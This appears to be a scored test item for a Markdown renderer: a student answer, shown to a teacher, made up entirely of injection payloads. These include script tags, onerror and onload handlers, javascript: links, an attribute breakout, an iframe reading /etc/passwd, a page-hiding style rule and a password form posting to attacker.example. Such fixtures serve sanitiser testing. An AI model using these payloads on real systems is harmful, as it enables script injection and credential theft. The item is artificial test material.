# about: the written answer, which a teacher reads, is Markdown with scripts, links, frames and SVG in it
# base: solved 01_encoding
# score: 25

# %% answer
**My answer** <script>alert('{{NAME}}')</script>

<img src=x onerror="alert('{{NAME}}')"> <svg onload="alert('{{NAME}}')"></svg>

[click](javascript:alert('{{NAME}}')) ![x](x" onerror="alert('{{NAME}}'))

<iframe src="file:///etc/passwd"></iframe> <style>body { display: none }</style>

<form action="https://attacker.example/"><input name="password"></form> $\href{javascript:alert(1)}{x}$
